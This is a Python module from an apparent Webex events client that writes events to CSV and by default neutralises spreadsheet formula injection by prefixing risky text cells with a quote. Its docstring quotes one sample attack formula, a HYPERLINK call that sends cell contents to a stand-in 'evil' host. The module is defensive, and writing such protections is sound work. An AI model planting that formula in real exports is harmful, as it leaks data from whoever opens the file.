"""CSV rendering of events: one row per event, one column per field of the spec's Event schema.

A cell holds its field exactly as decoded: a string as it is, a missing field or JSON null as
the empty cell, any other value as compact JSON with non-ASCII kept (booleans ``true``/``false``,
numbers as JSON writes them, arrays and objects such as ``["a","b"]``). Webex sends values of
other types than its spec says (attendees as strings, ``isCallAnswered`` as a boolean: see
docs/design.md, "Tolerance"); they are rendered by the same rule, never dropped.

Formula injection: a spreadsheet runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and,
in some, a tab or carriage return) as a formula, so a message text such as
``=HYPERLINK("http://evil/?"&A1)`` would act when a compliance officer opens the file. By
default such a *text* cell is written with a leading ``'`` (OWASP's advice), which spreadsheets
show as text; numbers, booleans and JSON arrays/objects never start with a formula character
that a spreadsheet would evaluate and are left alone. ``escape_formulas=False`` (the CLI's
``--no-csv-escape``) writes every cell exactly as sent, for programs that read the CSV.
"""

from __future__ import annotations

import csv
import functools
import io
import json
from collections.abc import Iterable, Mapping
from typing import Any

from webex_events_api.spec import EVENT_FIELDS, Field

__all__ = [
    "CSV_COLUMNS",
    "FORMULA_PREFIXES",
    "csv_columns",
    "csv_header",
    "csv_problem",
    "csv_rows",
    "field_value",
]


def csv_columns(fields: tuple[Field, ...]) -> tuple[str, ...]:
    """The CSV columns of an event schema's fields: the top-level fields, then ``data.X``..., each
    in spec order (an object field is spread over the columns of its fields)."""
    leaves = [f.path for f in fields if not any(g.path.startswith(f.path + ".") for g in fields)]
    return tuple(sorted(leaves, key=lambda path: "." in path))  # stable: spec order kept


#: The columns of ``--format csv`` for List Events, in order: every field of the spec's Event
#: schema, with ``data.X`` for the field ``X`` of the event's ``data`` object (``data`` itself is
#: spread over those columns). Missing fields are empty; non-string values (numbers, booleans,
#: objects, arrays) are written as compact JSON. A field added to spec/ becomes a column after
#: ``nox -s generate``. The audit streams' columns come from their schemas the same way
#: (``csv_columns``, ``cli._streams.stream_columns``).
CSV_COLUMNS: tuple[str, ...] = csv_columns(EVENT_FIELDS)


@functools.cache
def _plan(columns: tuple[str, ...]) -> tuple[tuple[str, ...], ...]:
    """The keys of each column, split once (``data.X`` -> ("data", "X"))."""
    return tuple(tuple(c.split(".")) for c in columns)


#: A text cell starting with one of these gets a leading ``'`` unless escaping is off.
FORMULA_PREFIXES: tuple[str, ...] = ("=", "+", "-", "@", "\t", "\r")


def _cell(value: Any) -> str:
    if value is None:
        return ""
    if isinstance(value, str):
        return value
    return json.dumps(value, ensure_ascii=False, separators=(",", ":"))


def _safe_cell(value: Any) -> str:
    if isinstance(value, str) and value.startswith(FORMULA_PREFIXES):
        return "'" + value
    return _cell(value)


def field_value(raw: Mapping[str, Any], path: tuple[str, ...]) -> Any:
    """The value at ``path`` (``("data", "roomId")``) of a decoded event, None if absent."""
    value: Any = raw
    for key in path:
        if not isinstance(value, Mapping):
            return None
        value = value.get(key)
    return value


def _row(raw: Mapping[str, Any], plan: tuple[tuple[str, ...], ...]) -> list[str]:
    return [_cell(field_value(raw, path)) for path in plan]


def _safe_row(raw: Mapping[str, Any], plan: tuple[tuple[str, ...], ...]) -> list[str]:
    return [_safe_cell(field_value(raw, path)) for path in plan]


def csv_header(columns: tuple[str, ...] = CSV_COLUMNS) -> str:
    """Return the header line (CRLF-terminated, RFC 4180)."""
    buf = io.StringIO()
    csv.writer(buf).writerow(columns)
    return buf.getvalue()


def csv_rows(
    raws: Iterable[Mapping[str, Any]], *, escape_formulas: bool = True, columns: tuple[str, ...] = CSV_COLUMNS
) -> str:
    """Render the rows of the given decoded events as CSV text (``columns``: List Events' by default).

    >>> csv_rows([{"id": "E1", "data": {"text": "=1+1"}}]).count("'=1+1")
    1
    >>> csv_rows([{"id": "E1", "data": {"text": "=1+1"}}], escape_formulas=False).count("'=1+1")
    0
    """
    row, plan = (_safe_row if escape_formulas else _row), _plan(columns)
    buf = io.StringIO()
    csv.writer(buf).writerows(row(raw, plan) for raw in raws)
    return buf.getvalue()


def csv_problem(raw: Mapping[str, Any], columns: tuple[str, ...] = CSV_COLUMNS) -> str | None:
    """Why the row of a decoded event cannot be written as UTF-8 CSV (its column), else None.

    A JSON string may hold a lone surrogate (``"\\ud800"``), which no UTF-8 text can: JSON Lines
    keeps the event's exact JSON text (the escape), a CSV cell would need the character itself.

    >>> csv_problem({"id": "E1", "data": {"text": "\\ud800"}})
    'data.text: surrogates not allowed'
    >>> csv_problem({"id": "E1"}) is None
    True
    """
    for column, path in zip(columns, _plan(columns), strict=True):
        try:
            _cell(field_value(raw, path)).encode("utf-8")
        except UnicodeEncodeError as exc:
            return f"{column}: {exc.reason}"
    return None
